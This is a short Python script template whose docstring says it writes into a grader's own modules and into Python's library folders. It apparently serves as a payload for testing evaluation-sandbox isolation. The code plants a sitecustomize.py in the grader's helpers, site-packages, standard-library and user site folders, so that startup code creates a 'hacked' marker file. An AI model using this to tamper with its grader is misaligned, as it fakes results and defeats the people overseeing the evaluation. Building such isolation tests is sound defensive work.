"""Writes into the grader's own modules and into Python's."""

import os, site, sysconfig
for folder in ("{repository}/helpers", sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), site.getusersitepackages()):
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "sitecustomize.py"), "w").write("open('{top}/hacked', 'w')")
    except OSError as error:
        print(error)
